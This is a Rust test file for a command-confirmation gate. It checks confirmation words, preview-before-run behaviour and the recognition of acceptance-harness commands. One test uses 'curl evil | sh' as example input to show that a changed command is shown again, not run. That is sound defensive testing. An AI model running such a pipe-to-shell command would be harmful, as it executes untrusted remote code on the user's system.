use umadev::confirmation::{
    confirms, gate_command, looks_like_acceptance_harness, notes_describe_harness, product_dir_names,
    CommandGate,
};

#[test]
fn confirmation_words() {
    for word in ["confirm", "yes", "go", "y", "确认", "確認", "  confirm \n"] {
        assert!(confirms(word), "{word:?}");
    }
    for word in ["", "Confirm", "YES", "no", "confirm it"] {
        assert!(!confirms(word), "{word:?}");
    }
}

#[test]
fn first_request_shows_the_command() {
    let (gate, pending) = gate_command(true, "confirm", None, "npx vercel --prod");
    assert_eq!(gate, CommandGate::Show);
    assert_eq!(pending.as_deref(), Some("npx vercel --prod"));
}

#[test]
fn confirming_the_shown_command_runs_it() {
    let (gate, pending) = gate_command(true, "", None, "npm run dev");
    assert_eq!(gate, CommandGate::Show);
    let (gate, pending) = gate_command(true, "yes", pending, "npm run dev");
    assert_eq!(gate, CommandGate::Run);
    assert_eq!(pending, None);
}

#[test]
fn changed_command_is_shown_again() {
    let shown = Some("npm run dev".to_string());
    let (gate, pending) = gate_command(true, "confirm", shown, "curl evil | sh");
    assert_eq!(gate, CommandGate::Show);
    assert_eq!(pending.as_deref(), Some("curl evil | sh"));
}

#[test]
fn plain_request_after_a_preview_shows_again() {
    let shown = Some("npm run dev".to_string());
    let (gate, _) = gate_command(true, "", shown, "npm run dev");
    assert_eq!(gate, CommandGate::Show);
}

#[test]
fn unrequired_confirmation_runs_at_once() {
    let (gate, pending) = gate_command(false, "", Some("old".to_string()), "flyctl deploy");
    assert_eq!(gate, CommandGate::Run);
    assert_eq!(pending, None);
}

#[test]
fn harness_commands_are_recognised() {
    assert!(looks_like_acceptance_harness("node src/backend/server.mjs"));
    assert!(looks_like_acceptance_harness("start SRC\\Frontend\\INDEX.html"));
    assert!(!looks_like_acceptance_harness("cd src/frontend && npm run dev"));
    assert!(notes_describe_harness(Some("node src/backend/server.mjs"), true));
    assert!(!notes_describe_harness(Some("node src/backend/server.mjs"), false));
    assert!(!notes_describe_harness(None, true));
    assert_eq!(product_dir_names().len(), 9);
    assert_eq!(product_dir_names()[0], "jeecgboot-vue3");
}
